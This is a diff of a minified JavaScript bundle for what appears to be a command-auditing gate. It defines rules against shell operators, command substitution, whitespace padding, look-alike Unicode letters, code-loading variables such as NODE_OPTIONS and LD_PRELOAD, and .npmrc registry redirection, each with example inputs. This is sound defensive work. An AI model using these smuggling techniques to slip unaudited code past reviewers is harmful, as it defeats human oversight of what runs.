+  - 'coverage/**'`,message:({command:d,paths:S})=>`The command \`${d}\` wrote to the checkout: ${v(S)}.`,remedy:"Write t\
+o the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy."}),"checkout-modified":(0,c().rule)({harm:"\
 danger",title:"Validation command modified audited files",why:"What runs must be what was audited. After a command modif\
 ies tracked files, the next one would run files that were not audited, so no further command runs. A validation command \
-should only read.",wrong:{...a(`${r}fs.writeFileSync('src/index.js', '');
+should only read.",wrong:{...r(`${a}fs.writeFileSync('src/index.js', '');
 `),policy:`containment: off
-`},right:{...a(`${r}fs.readFileSync('src/index.js');
+`},right:{...r(`${a}fs.readFileSync('src/index.js');
 `),policy:`containment: off
-`},message:({command:_,paths:y})=>`The command \`${_}\` modified ${y.length===1?"an audited file":`${y.length} audited f\
-iles`}: ${k(y)}.`,remedy:"Change the command so that it reports problems and does not modify files."}),"prepare-refused":(0,i().
+`},message:({command:d,paths:S})=>`The command \`${d}\` modified ${S.length===1?"an audited file":`${S.length} audited f\
+iles`}: ${v(S)}.`,remedy:"Change the command so that it reports problems and does not modify files."}),"prepare-refused":(0,c().
 rule)({harm:"danger",actor:"human",title:"Change redirects what prepare installs",why:"`prepare` runs with access to the\
  network, and what it installs is run by commands. It does not run for a change that edits where packages come from, add\
 s a dependency from git, a URL or an archive, replaces a package by a directory of the repository, lets a lockfile downl\
 oad from a host that the base does not use, or edits a lockfile of another package manager than npm, nor for one that we\
-akens the gate until it is approved. Without it, commands that need dependencies or build outputs do not run.",wrong:{...h,
-head:{...h.head,".npmrc":`registry=http://localhost/
-`}},right:h,message:"`prepare` did not run, because of `{path}`: {what}.",remedy:"Make this change in a separate pull re\
-quest, and have it reviewed."}),"ran-uncontained":(0,i().warning)({actor:"human",counted:["reason"],title:"Code of the c\
+akens the gate until it is approved. Without it, commands that need dependencies or build outputs do not run.",wrong:{...l,
+head:{...l.head,".npmrc":`registry=http://localhost/
+`}},right:l,message:"`prepare` did not run, because of `{path}`: {what}.",remedy:"Make this change in a separate pull re\
+quest, and have it reviewed."}),"ran-uncontained":(0,c().warning)({actor:"human",counted:["reason"],title:"Code of the c\
 hange ran where it sees more than the commit",why:"`prepare` starts code of the change: scripts of package.json, of depe\
 ndencies, and build tools. Without namespaces, it ran as the user of the gate, with access to the files and the network \
 of the machine. Commands then run in a private copy of the commit, its dependencies and its build outputs. A checkout wi\
 th more than 200,000 files or 4 GiB is too large to copy: in CI this is an error, and in a terminal they run in the chec\
-kout.",wrong:{...h,policy:`containment: off
-`},right:{...h,policy:w},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user names\
-paces, and leave `containment` on."}),"checkout-changed":(0,i().rule)({title:"Files of the checkout changed while the ga\
+kout.",wrong:{...l,policy:`containment: off
+`},right:{...l,policy:y},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user names\
+paces, and leave `containment` on."}),"checkout-changed":(0,c().rule)({title:"Files of the checkout changed while the ga\
 te ran",why:"The gate compares the tracked files with the audited commit just before and after each command. If somethin\
 g other than the command wrote a file meanwhile, or added one that is not in the commit, the gate cannot tell what ran. \
-The result of the command does not count, and no further command runs.",wrong:{...a(`setTimeout(() => console.log('OK'),\
+The result of the command does not count, and no further command runs.",wrong:{...r(`setTimeout(() => console.log('OK'),\
  500);
 `),run:{meanwhile:{"src/index.js":`module.exports = 'other';
-`}},policy:w},right:{...a(`setTimeout(() => console.log('OK'), 500);
-`),policy:w},message:({command:_,paths:y})=>`Something other than the command \`${_}\` changed ${y.length===1?"a file":`${y.
-length} files`} of the checkout while the gate ran: ${k(y)}.`,remedy:"Stop programs that write to the checkout, such as \
-an editor or a build in watch mode, and run the gate again."}),"file-left-out":(0,i().notice)({title:"Command may need a\
+`}},policy:y},right:{...r(`setTimeout(() => console.log('OK'), 500);
+`),policy:y},message:({command:d,paths:S})=>`Something other than the command \`${d}\` changed ${S.length===1?"a file":`${S.
+length} files`} of the checkout while the gate ran: ${v(S)}.`,remedy:"Stop programs that write to the checkout, such as \
+an editor or a build in watch mode, and run the gate again."}),"file-left-out":(0,c().notice)({title:"Command may need a\
  file that it does not see",why:"Each command has a new private copy of the audited commit, with installed dependencies,\
  what `prepare` wrote, and the files that `build_outputs` in the policy names. Other files of the checkout, untracked or\
  ignored, have not been reviewed and are not there. Nor is what an earlier command wrote: no command can prepare what th\
-e next one checks. The finding names files that the output of a failed command mentions.",wrong:{...u,also:{"command-fai\
-led":"This is why."}},right:{...u,policy:`build_outputs:
+e next one checks. The finding names files that the output of a failed command mentions.",wrong:{...i,also:{"command-fai\
+led":"This is why."}},right:{...i,policy:`build_outputs:
   - .env.test
 `},configure:`build_outputs:
   - dist/**
-  - .env.test`,message:({command:_,paths:y,writer:m})=>`The command \`${_}\` failed and mentions ${k(y)}, which ${m===""?
-`${y.length===1?"is":"are"} on disk but not in the commit, so the command did not see ${y.length===1?"it":"them"}`:`\`${m}\
-\` wrote to a private copy of the checkout that no longer exists`}.`,remedy:({writer:_})=>_===""?"Commit the file, creat\
+  - .env.test`,message:({command:d,paths:S,writer:k})=>`The command \`${d}\` failed and mentions ${v(S)}, which ${k===""?
+`${S.length===1?"is":"are"} on disk but not in the commit, so the command did not see ${S.length===1?"it":"them"}`:`\`${k}\
+\` wrote to a private copy of the checkout that no longer exists`}.`,remedy:({writer:d})=>d===""?"Commit the file, creat\
 e it in `prepare`, or name it in `build_outputs` in the policy of the base branch.":"Do both steps in one script, or cre\
-ate the file in `prepare`."}),"run-interrupted":(0,i().rule)({title:"Run was interrupted",why:"A canceled job or an inte\
-rrupted terminal leaves commands without a result. A command that did not run has not passed.",wrong:{...a(f),run:{cancelled:!0}},
-right:o,message:({skipped:_})=>`The run was interrupted before ${_===1?"one command":`${_} commands`} finished.`,remedy:"\
-Run the gate again."}),"part-of-run":(0,i().notice)({title:"Report covers one shard of a run",why:"In a matrix, each mac\
+ate the file in `prepare`."}),"run-interrupted":(0,c().rule)({title:"Run was interrupted",why:"A canceled job or an inte\
+rrupted terminal leaves commands without a result. A command that did not run has not passed.",wrong:{...r(p),run:{cancelled:!0}},
+right:o,message:({skipped:d})=>`The run was interrupted before ${d===1?"one command":`${d} commands`} finished.`,remedy:"\
+Run the gate again."}),"part-of-run":(0,c().notice)({title:"Report covers one shard of a run",why:"In a matrix, each mac\
 hine runs only the genes of its own shard. One shard can show that a gene fails, but only all shards together can show t\
 hat all genes pass. A shard whose genes pass therefore has the verdict `error`, and `shards[0].verdict` is the verdict o\
 f its own genes. See [matrix](../github.md#on-several-machines).",wrong:{...(0,e().genes)({id:"gene_a"},{id:"gene_b"}),run:{
-shard:"1/2"}},right:{...(0,e().genes)({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:_,of:y,genes:m})=>`This repor\
-t covers only shard ${_} of ${y}, with ${m===1?"one gene":`${m} genes`}.`,remedy:"Merge the reports of all shards with `\
+shard:"1/2"}},right:{...(0,e().genes)({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:d,of:S,genes:k})=>`This repor\
+t covers only shard ${d} of ${S}, with ${k===1?"one gene":`${k} genes`}.`,remedy:"Merge the reports of all shards with `\
 gene-gate merge`, or with `mode: report` in the action."})})},6692:function(A,t,s){Object.defineProperty(t,"__esModule",
-{value:!0}),t.storeRules=void 0;function e(){const r=s(67298);return e=function(){return r},r}function n(){const r=s(36773);
-return n=function(){return r},r}function i(){const r=s(43767);return i=function(){return r},r}const g={...{"evolver/asse\
+{value:!0}),t.storeRules=void 0;function e(){const a=s(67298);return e=function(){return a},a}function n(){const a=s(36773);
+return n=function(){return a},a}function c(){const a=s(43767);return c=function(){return a},a}const g={...{"evolver/asse\
 ts/gep/genes.json":[(0,e().gene)({validation:["node check.js"]})],"evolver/check.js":`work();
 `},"evolver/package.json":`{ "name": "evolver" }
 `},o=`stores:
 - path: evolver
   root: evolver
-`;function h(r,u){return r==="moves"?`after this change they would run in ${u}`:r==="accepts"?`this one is refused there\
-, and would be accepted in ${u}`:`a package.json above it is also in ${u}`}const c=t.storeRules=(0,i().rules)("change","\
-danger",{"store-root-missing":(0,i().rule)({forbidsRunning:"change",title:"Root of a store does not exist",why:"Commands\
- of a store run in its root: the directory that the policy names for it, or the one that the base has. Without that dire\
-ctory they would not run at all.",wrong:{head:{[e().GENES]:[(0,e().gene)()]},policy:`stores:
+`;function l(a,i,p){return p?l(a,`${i}, where the checkout is \`${p}\``):a==="moves"?`after this change they would run i\
+n ${i}`:a==="accepts"?`this one is refused there, and would be accepted in ${i}`:`a package.json above it is also in ${i}`}
+const m=t.storeRules=(0,c().rules)("change","danger",{"store-root-missing":(0,c().rule)({forbidsRunning:"change",title:"\
+Root of a store does not exist",why:"Commands of a store run in its root: the directory that the policy names for it, or\
+ the one that the base has. Without that directory they would not run at all.",wrong:{head:{[e().GENES]:[(0,e().gene)()]},
+policy:`stores:
 - path: assets/gep
   root: engine
-`},right:{head:{[e().GENES]:[(0,e().gene)()]},policy:`stores:
+`,also:{"target-missing":"The scripts of the gene would be in the directory."}},right:{head:{[e().GENES]:[(0,e().gene)()]},
+policy:`stores:
 - path: assets/gep
   root: .
-`},configure:o,message:"The commands of `{store}` run in `{root}`, which is not a directory of this commit.",remedy:({root:r,
-named:u})=>u?`Correct \`stores\` in the policy on the base branch, or add \`${r}\`.`:`Restore \`${r}\`, or set \`stores\` i\
-n the policy on the base branch.`}),"store-root-unclear":(0,i().notice)({title:"Store could have another root",why:"The \
+`},configure:o,message:"The commands of `{store}` run in `{root}`, which is not a directory of this commit.",remedy:({root:a,
+named:i})=>i?`Correct \`stores\` in the policy on the base branch, or add \`${a}\`.`:`Restore \`${a}\`, or set \`stores\` i\
+n the policy on the base branch.`}),"store-root-unclear":(0,c().notice)({title:"Store could have another root",why:"The \
 commands of a store run in the nearest directory above it that has a package.json, else in the root of the repository, u\
 nless the policy names another one. Some engines run them in the root of the repository (`EVOLVER_USE_PARENT_GIT=true`).\
  The gate does not choose a directory because a command works there. A change that adds or removes a package.json so tha\
 t later changes are judged with another root is a warning.",wrong:{head:g},right:{head:g,policy:o},configure:o,message:({
-store:r,root:u,others:f,because:d})=>`The commands of \`${r}\` run in \`${u}\`; ${h(d,(0,n().inCode)(f))}.`,remedy:"If a\
-n engine runs them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]\
-`."})})},76186:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.syntaxRules=void 0;function e(){const o=s(
-36773);return e=function(){return o},o}function n(){const o=s(43767);return n=function(){return o},o}const i={"&":"Remov\
-e `&`","|":"Move both steps into one script and run it with `node`","||":"Keep the command that must succeed and remove \
-the rest, which hides a failure"};function a(o,h,c,r){if(!r)return`\`${o}\` expands to the names of the files that exist.`;
-if(c===0)return`\`${o}\` matches no file and is passed unchanged.`;const u=c>h.length?` and ${c-h.length} more`:"";return`\
-\`${o}\` expands to ${(0,e().inCode)(h)}${u}.`}const w={bracket:"shells disagree about its brackets",dot:"it matches the\
- directory itself in some shells",empty_segment:"shells disagree about an empty path segment",flag:"a matching file name\
- can begin with `-`, which the program reads as a flag",letters:"a letter in a file name counts as one or several charac\
-ters, depending on the locale",symlink:"it leads through a symbolic link or a submodule",file_name:"a matching file name\
- contains a character that is not allowed in commands",outside:"it leads to files outside the repository",program:"it le\
-ts file names decide what runs",too_many:"there are too many patterns or matching files"},g=t.syntaxRules=(0,n().rules)(
-"syntax","broken",{"empty-command":(0,n().rule)({title:"Command is empty or has no program",why:"A command that runs not\
-hing validates nothing, and a shell reports success for it.",wrong:"NODE_ENV=test",right:{command:"NODE_ENV=test node sc\
-ripts/validate.js",also:{"environment-assignment":"The remaining variable is allowed."}},message:"The command does not n\
-ame a program to run.",remedy:"Write a program and its arguments, or remove the entry."}),"command-too-long":(0,n().rule)(
-{anyText:!0,shape:"unreadable",counted:["more"],title:"Command is longer than 128 KiB, or has more than 1,000 quoted par\
-ts",why:"Linux does not accept a single argument longer than 128 KiB, so a longer command cannot run, and the gate does \
-not read it. No reviewer can read a command with thousands of quoted parts.",wrong:"node scripts/validate.js <131,072 le\
-tters>",right:"node scripts/validate.js data/input.json",message:"The command has more than {more}.",remedy:"Move the da\
-ta to a file in the repository and pass the path of the file."}),"blank-padding":(0,n().rule)({title:"Command is padded \
-with whitespace",why:"A long run of whitespace moves the rest of the command out of the reviewer's view. No command need\
-s it.",wrong:"node scripts/validate.js <100 blanks> --fix",right:"node scripts/validate.js --fix",message:"The command c\
-ontains {blanks} unnecessary whitespace characters, which can move part of it out of view.",remedy:"Separate words with \
-a single space."}),"shell-operator":(0,n().rule)({shape:"operator",cause:({operator:o})=>`shell operator ${o}`,title:"Co\
-mmand contains a shell operator",why:"Commands run without a shell, one process per command, so that what runs is exactl\
-y what was audited. A shell reads `;`, `&`, and `|` as the end of one command and the start of another.",wrong:"node scr\
-ipts/a.js && node scripts/b.js",right:"node scripts/a.js",message:"The command contains the shell operator `{operator}`,\
- but commands run without a shell.",remedy:({operator:o})=>`${i[o]??"Write each command that checks something as a separ\
-ate entry"}; if \`${o}\` is data, quote it.`}),"shell-redirection":(0,n().rule)({shape:"redirection",title:"Command redi\
-rects input or output",why:"Commands run without a shell, so nothing opens the file and the program receives the redirec\
-tion as an argument. In a shell, a redirection can write any file that the user can write.",wrong:"node scripts/validate\
-.js > report.txt",right:"node scripts/validate.js --output report.txt",message:"The command contains the redirection `{o\
-perator}`, but commands run without a shell.",remedy:"Read or write the file in the script; the gate keeps the command o\
-utput. If `{operator}` is data, quote it."}),"shell-grammar":(0,n().rule)({title:"Command contains a parenthesis or a re\
-served word of the shell",why:"Parentheses start subshells and define functions, and a function can replace the program \
-that was audited. Words such as `if`, `time`, and `!` are grammar, not programs. They have no meaning without a shell.",
-wrong:"! node scripts/validate.js",right:"node scripts/validate.js '(fast)'",message:"`{written}` belongs to the grammar\
- of a shell, but commands run without a shell.",remedy:({written:o})=>`Remove it, or move conditions, loops and expected\
- failures into a script; if it is data, quote it: \`${(0,e().singleQuoted)(o)}\`.`}),"line-break":(0,n().rule)({shape:"m\
-ultiline",title:"Command contains a line break",why:"A shell reads a line feed as the end of a command. Inside quotes a \
-line break is data, but it can still forge lines in logs and reports.",wrong:"node scripts/a.js<U+000A>node scripts/b.js",
-right:"node scripts/a.js",message:({character:o,quoted:h})=>`The command contains a line break (${o})${h?" inside quotes":
-""}.`,remedy:"Write each line as a separate entry in `validation`, and text of several lines into a file."}),"line-conti\
-nuation":(0,n().rule)({title:"Command contains a line continuation",why:"A shell removes a backslash and the line break \
-after it, so the text that reviewers and patterns see is not the text that runs.",wrong:"node \\<U+000A>scripts/validate.\
-js",right:"node scripts/validate.js",message:"A backslash at the end of a line continues the command on the next line.",
-remedy:"Write the command on one line."}),"nul-character":(0,n().rule)({anyText:!0,shape:"multiline",title:"Command cont\
-ains a NUL character",why:"The operating system ends a string at NUL, so the text after it is audited but never passed t\
-o the program.",wrong:"node scripts/validate.js<U+0000>--all",right:"node scripts/validate.js --all",message:"The comman\
-d contains a NUL character ({character}).",remedy:"Remove the character."}),"control-character":(0,n().rule)({anyText:!0,
-title:"Command contains a control character or half of a character",why:"Control characters move the cursor, erase text,\
- and change colours in terminals, so the displayed command is not the one that runs. A tab between words is allowed. A l\
-one surrogate becomes a different character as soon as it leaves the gate, since UTF-8 cannot encode it.",wrong:"node sc\
-ripts/x.js<U+0008><U+0008>",right:"node scripts/x.js",message:"The command contains the character {character}, which cha\
-nges how the text is shown.",remedy:"Remove the character; if the program needs it, create it in the script."}),"variabl\
-e-expansion":(0,n().rule)({title:"Command contains a variable expansion",why:"Commands run without a shell, so variables\
- are not expanded. In a shell, the value of the variable decides what runs and appears in arguments and logs.",wrong:"no\
-de scripts/validate.js $TARGET",right:"node scripts/validate.js src",message:"The command contains the variable expansio\
-n `{written}`, but commands run without a shell.",remedy:"Write the value, or read it from `process.env` in the script; \
-if the text is data, put it in single quotes."}),"command-substitution":(0,n().rule)({shape:"substitution",title:"Comman\
-d contains a command substitution",why:"A shell replaces a command substitution with the output of another command, so t\
-he final command is unknown until it runs.",wrong:"node scripts/validate.js $(git rev-parse HEAD)",right:"node scripts/v\
-alidate.js '$(not run)'",message:"The command contains the command substitution `{written}`, but commands run without a \
-shell.",remedy:"Run the inner command in the script, or write its result; if the text is data, put it in single quotes."}),
-"arithmetic-expansion":(0,n().rule)({title:"Command contains an arithmetic expansion",why:"Commands run without a shell,\
- so arithmetic is not evaluated. The form `$[\u2026]` also has different meanings in bash and dash.",wrong:"node scripts\
-/validate.js $((2 * 3))",right:"node scripts/validate.js 6",message:"The command contains the arithmetic expansion `{wri\
-tten}`, but commands run without a shell.",remedy:"Write the result; if the text is data, put it in single quotes."}),"d\
-ollar-quote":(0,n().rule)({title:"Command contains a dollar sign before a quote",why:"bash reads `$'\u2026'` as a string with\
- escape sequences and `$\"\u2026\"` as a string to translate; dash reads a dollar sign and a quoted string. Ambiguous text is b\
-locked.",wrong:"node scripts/validate.js $'a'",right:"node scripts/validate.js 'a'",message:"`{written}` has different m\
-eanings in bash and dash.",remedy:"Use plain quotes; put a dollar sign that is data inside single quotes."}),"tilde-expa\
-nsion":(0,n().rule)({instance:["word"],title:"Command contains a tilde expansion",why:"A shell replaces the tilde with t\
-he home directory of the user who runs the command, which is outside the repository.",wrong:"node ~/validate.js",right:"\
-node scripts/validate.js",message:"The tilde in `{word}` expands to a home directory.",remedy:"Use the relative path of \
-a file in the repository; if the tilde is data, quote it."}),"brace-expansion":(0,n().rule)({title:"Command contains a b\
-race expansion",why:"bash expands `{a,b}` to several words and dash keeps one word, so the arguments depend on which she\
-ll `sh` is.",wrong:"node scripts/validate.js {a,b}",right:"node scripts/validate.js a b",message:"The braces in `{writte\
-n}` expand to several words in bash but not in dash.",remedy:({written:o})=>{const[,h="",c="",r=""]=/^([^{}]*)\{([\w,.*/-]*,[\w,.*/-]*)\}([^{}]*)$/.
-exec(o)??[],u=c.split(",").map(f=>h+f+r);return c===""?"Write each word that the braces stand for.":`Write each word: \`${u.
+store:a,root:i,others:p,because:h,checkoutAs:_})=>`The commands of \`${a}\` run in \`${i}\`; ${l(h,(0,n().inCode)(p),_)}\
+.`,remedy:({store:a,checkoutAs:i})=>`If an engine runs them elsewhere, set the root in the policy on the base branch: \`s\
+tores: [{path: ${a}, ${i?`checkout_as: ${i}`:"root: DIRECTORY"}}]\`.`})})},76186:function(A,t,s){Object.defineProperty(t,
+"__esModule",{value:!0}),t.syntaxRules=void 0;function e(){const o=s(36773);return e=function(){return o},o}function n(){
+const o=s(43767);return n=function(){return o},o}const c={"&":"Remove `&`","|":"Move both steps into one script and run \
+it with `node`","||":"Keep the command that must succeed and remove the rest, which hides a failure"};function r(o,l,m,a){
+if(!a)return`\`${o}\` expands to the names of the files that exist.`;if(m===0)return`\`${o}\` matches no file and is pass\
+ed unchanged.`;const i=m>l.length?` and ${m-l.length} more`:"";return`\`${o}\` expands to ${(0,e().inCode)(l)}${i}.`}const y={
+bracket:"shells disagree about its brackets",dot:"it matches the directory itself in some shells",empty_segment:"shells \
+disagree about an empty path segment",flag:"a matching file name can begin with `-`, which the program reads as a flag",
+letters:"a letter in a file name counts as one or several characters, depending on the locale",symlink:"it leads through\
+ a symbolic link or a submodule",file_name:"a matching file name contains a character that is not allowed in commands",outside:"\
+it leads to files outside the repository",program:"it lets file names decide what runs",too_many:"there are too many pat\
+terns or matching files"},g=t.syntaxRules=(0,n().rules)("syntax","broken",{"empty-command":(0,n().rule)({title:"Command \
+is empty or has no program",why:"A command that runs nothing validates nothing, and a shell reports success for it.",wrong:"\
+NODE_ENV=test",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"environment-assignment":"The remaining var\
+iable is allowed."}},message:"The command does not name a program to run.",remedy:"Write a program and its arguments, or\
+ remove the entry."}),"command-too-long":(0,n().rule)({anyText:!0,shape:"unreadable",counted:["more"],title:"Command is \
+longer than 128 KiB, or has more than 1,000 quoted parts",why:"Linux does not accept a single argument longer than 128 K\
+iB, so a longer command cannot run, and the gate does not read it. No reviewer can read a command with thousands of quot\
+ed parts.",wrong:"node scripts/validate.js <131,072 letters>",right:"node scripts/validate.js data/input.json",message:"\
+The command has more than {more}.",remedy:"Move the data to a file in the repository and pass the path of the file."}),"\
+blank-padding":(0,n().rule)({title:"Command is padded with whitespace",why:"A long run of whitespace moves the rest of t\
+he command out of the reviewer's view. No command needs it.",wrong:"node scripts/validate.js <100 blanks> --fix",right:"\
+node scripts/validate.js --fix",message:"The command contains {blanks} unnecessary whitespace characters, which can move\
+ part of it out of view.",remedy:"Separate words with a single space."}),"shell-operator":(0,n().rule)({shape:"operator",
+cause:({operator:o})=>`shell operator ${o}`,title:"Command contains a shell operator",why:"Commands run without a shell,\
+ one process per command, so that what runs is exactly what was audited. A shell reads `;`, `&`, and `|` as the end of o\
+ne command and the start of another.",wrong:"node scripts/a.js && node scripts/b.js",right:"node scripts/a.js",message:"\
+The command contains the shell operator `{operator}`, but commands run without a shell.",remedy:({operator:o})=>`${c[o]??
+"Write each command that checks something as a separate entry"}; if \`${o}\` is data, quote it.`}),"shell-redirection":(0,n().
+rule)({shape:"redirection",title:"Command redirects input or output",why:"Commands run without a shell, so nothing opens\
+ the file and the program receives the redirection as an argument. In a shell, a redirection can write any file that the\
+ user can write.",wrong:"node scripts/validate.js > report.txt",right:"node scripts/validate.js --output report.txt",message:"\
+The command contains the redirection `{operator}`, but commands run without a shell.",remedy:"Read or write the file in \
+the script; the gate keeps the command output. If `{operator}` is data, quote it."}),"shell-grammar":(0,n().rule)({title:"\
+Command contains a parenthesis or a reserved word of the shell",why:"Parentheses start subshells and define functions, a\
+nd a function can replace the program that was audited. Words such as `if`, `time`, and `!` are grammar, not programs. T\
+hey have no meaning without a shell.",wrong:"! node scripts/validate.js",right:"node scripts/validate.js '(fast)'",message:"\
+`{written}` belongs to the grammar of a shell, but commands run without a shell.",remedy:({written:o})=>`Remove it, or m\
+ove conditions, loops and expected failures into a script; if it is data, quote it: \`${(0,e().singleQuoted)(o)}\`.`}),"\
+line-break":(0,n().rule)({shape:"multiline",title:"Command contains a line break",why:"A shell reads a line feed as the \
+end of a command. Inside quotes a line break is data, but it can still forge lines in logs and reports.",wrong:"node scr\
+ipts/a.js<U+000A>node scripts/b.js",right:"node scripts/a.js",message:({character:o,quoted:l})=>`The command contains a \
+line break (${o})${l?" inside quotes":""}.`,remedy:"Write each line as a separate entry in `validation`, and text of sev\
+eral lines into a file."}),"line-continuation":(0,n().rule)({title:"Command contains a line continuation",why:"A shell r\
+emoves a backslash and the line break after it, so the text that reviewers and patterns see is not the text that runs.",
+wrong:"node \\<U+000A>scripts/validate.js",right:"node scripts/validate.js",message:"A backslash at the end of a line co\
+ntinues the command on the next line.",remedy:"Write the command on one line."}),"nul-character":(0,n().rule)({anyText:!0,
+shape:"multiline",title:"Command contains a NUL character",why:"The operating system ends a string at NUL, so the text a\
+fter it is audited but never passed to the program.",wrong:"node scripts/validate.js<U+0000>--all",right:"node scripts/v\
+alidate.js --all",message:"The command contains a NUL character ({character}).",remedy:"Remove the character."}),"contro\
+l-character":(0,n().rule)({anyText:!0,title:"Command contains a control character or half of a character",why:"Control c\
+haracters move the cursor, erase text, and change colours in terminals, so the displayed command is not the one that run\
+s. A tab between words is allowed. A lone surrogate becomes a different character as soon as it leaves the gate, since U\
+TF-8 cannot encode it.",wrong:"node scripts/x.js<U+0008><U+0008>",right:"node scripts/x.js",message:"The command contain\
+s the character {character}, which changes how the text is shown.",remedy:"Remove the character; if the program needs it\
+, create it in the script."}),"variable-expansion":(0,n().rule)({title:"Command contains a variable expansion",why:"Comm\
+ands run without a shell, so variables are not expanded. In a shell, the value of the variable decides what runs and app\
+ears in arguments and logs.",wrong:"node scripts/validate.js $TARGET",right:"node scripts/validate.js src",message:"The \
+command contains the variable expansion `{written}`, but commands run without a shell.",remedy:"Write the value, or read\
+ it from `process.env` in the script; if the text is data, put it in single quotes."}),"command-substitution":(0,n().rule)(
+{shape:"substitution",title:"Command contains a command substitution",why:"A shell replaces a command substitution with \
+the output of another command, so the final command is unknown until it runs.",wrong:"node scripts/validate.js $(git rev\
+-parse HEAD)",right:"node scripts/validate.js '$(not run)'",message:"The command contains the command substitution `{wri\
+tten}`, but commands run without a shell.",remedy:"Run the inner command in the script, or write its result; if the text\
+ is data, put it in single quotes."}),"arithmetic-expansion":(0,n().rule)({title:"Command contains an arithmetic expansi\
+on",why:"Commands run without a shell, so arithmetic is not evaluated. The form `$[\u2026]` also has different meanings in ba\
+sh and dash.",wrong:"node scripts/validate.js $((2 * 3))",right:"node scripts/validate.js 6",message:"The command contai\
+ns the arithmetic expansion `{written}`, but commands run without a shell.",remedy:"Write the result; if the text is dat\
+a, put it in single quotes."}),"dollar-quote":(0,n().rule)({title:"Command contains a dollar sign before a quote",why:"b\
+ash reads `$'\u2026'` as a string with escape sequences and `$\"\u2026\"` as a string to translate; dash reads a dollar sign and a q\
+uoted string. Ambiguous text is blocked.",wrong:"node scripts/validate.js $'a'",right:"node scripts/validate.js 'a'",message:"\
+`{written}` has different meanings in bash and dash.",remedy:"Use plain quotes; put a dollar sign that is data inside si\
+ngle quotes."}),"tilde-expansion":(0,n().rule)({instance:["word"],title:"Command contains a tilde expansion",why:"A shel\
+l replaces the tilde with the home directory of the user who runs the command, which is outside the repository.",wrong:"\
+node ~/validate.js",right:"node scripts/validate.js",message:"The tilde in `{word}` expands to a home directory.",remedy:"\
+Use the relative path of a file in the repository; if the tilde is data, quote it."}),"brace-expansion":(0,n().rule)({title:"\
+Command contains a brace expansion",why:"bash expands `{a,b}` to several words and dash keeps one word, so the arguments\
+ depend on which shell `sh` is.",wrong:"node scripts/validate.js {a,b}",right:"node scripts/validate.js a b",message:"Th\
+e braces in `{written}` expand to several words in bash but not in dash.",remedy:({written:o})=>{const[,l="",m="",a=""]=/^([^{}]*)\{([\w,.*/-]*,[\w,.*/-]*)\}([^{}]*)$/.
+exec(o)??[],i=m.split(",").map(p=>l+p+a);return m===""?"Write each word that the braces stand for.":`Write each word: \`${i.
 join(" ")}\`.`}}),"shell-comment":(0,n().rule)({title:"Command contains a comment",why:"A shell ignores everything from \
 `#` at the start of a word to the end of the line. Without a shell, the program receives that text as arguments, and rev\
 iewers read it as part of the command.",wrong:"node scripts/validate.js # fast",right:"node scripts/validate.js",message:"\
@@ -2428,18 +2441,18 @@ aracter if you meant one; otherwise put the text in quotes."}),"look-alike-lette
 ommand contains characters that imitate or become other ones",why:"A Cyrillic or Greek letter that looks like a Latin le\
 tter names a different program or file than the one that the reviewer reads. A full-width letter, a ligature, or the Gre\
 ek question mark becomes an ASCII character that was never audited when a tool normalises Unicode text.",wrong:'node "sc\
-ripts/\u043Ek.js"',right:'node "scripts/ok.js"',message:({word:o,looks_like:h,characters:c})=>`\`${o}\` looks like or bec\
-omes \`${h}\`, but contains ${c.join(", ")}.`,remedy:"Type the ordinary characters that you mean, in ASCII letters."}),"\
+ripts/\u043Ek.js"',right:'node "scripts/ok.js"',message:({word:o,looks_like:l,characters:m})=>`\`${o}\` looks like or bec\
+omes \`${l}\`, but contains ${m.join(", ")}.`,remedy:"Type the ordinary characters that you mean, in ASCII letters."}),"\
 unquoted-glob":(0,n().warning)({instance:["pattern","matches"],title:"Command contains an unquoted glob pattern",why:"Th\
 e result of a glob pattern depends on which files exist. The gate expands the pattern against the audited files, in byte\
  order, and reports the result. A quoted pattern means the same everywhere.",wrong:"node --test test/*.test.js",right:"n\
-ode --test 'test/*.test.js'",message:({pattern:o,matches:h,count:c,judged:r})=>a(o,h,c,r),remedy:({pattern:o})=>`Name th\
+ode --test 'test/*.test.js'",message:({pattern:o,matches:l,count:m,judged:a})=>r(o,l,m,a),remedy:({pattern:o})=>`Name th\
 e files, or quote the pattern, \`${(0,e().singleQuoted)(o)}\`, if it is data or the tool expands it.`}),"glob-unclear":(0,n().
 rule)({instance:["pattern"],title:"Glob pattern decides what runs, or is ambiguous",why:"File names must not choose the \
 program or script, or become flags: adding a file would change what the command does. A pattern that leads out of the re\
 pository, about which shells or locales disagree, or that leads through a link, means something else on each machine.",wrong:"\
-node *",right:"node scripts/validate.js '[^a]*'",message:({pattern:o,reason:h})=>`The glob pattern \`${o}\` is not expand\
-ed: ${w[h]}.`,remedy:({pattern:o})=>`Name the program, the script and the files, or quote the pattern, \`${(0,e().singleQuoted)(
+node *",right:"node scripts/validate.js '[^a]*'",message:({pattern:o,reason:l})=>`The glob pattern \`${o}\` is not expand\
+ed: ${y[l]}.`,remedy:({pattern:o})=>`Name the program, the script and the files, or quote the pattern, \`${(0,e().singleQuoted)(
 o)}\`, if it is data.`}),"environment-assignment":(0,n().warning)({title:"Command sets an environment variable",why:"The\
  gate adds the variable to the environment of this command, as a shell does. It reports the variable because the command\
  can behave differently without it.",wrong:"NODE_ENV=test npm test",right:"npm test",message:"The command sets the envir\
@@ -2448,8 +2461,8 @@ refused":(0,n().rule)({harm:"danger",title:"Command sets a variable that is not 
 IONS, PATH, and LD_PRELOAD load code or replace programs. Allowed are variables that change output or mode, such as NODE\
 _ENV, and a number or a switch for a setting of an application whose name no program of the machine reads.",wrong:"NODE_\
 OPTIONS=--require=./x.cjs node scripts/validate.js",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"envir\
-onment-assignment":"The remaining variable is allowed."}},message:({name:o,value:h,known:c})=>`The environment variable \
-\`${c?`${o}=${h}`:o}\` is not allowed before a command.`,remedy:"Set `{name}` in the script, or pass the value as an arg\
+onment-assignment":"The remaining variable is allowed."}},message:({name:o,value:l,known:m})=>`The environment variable \
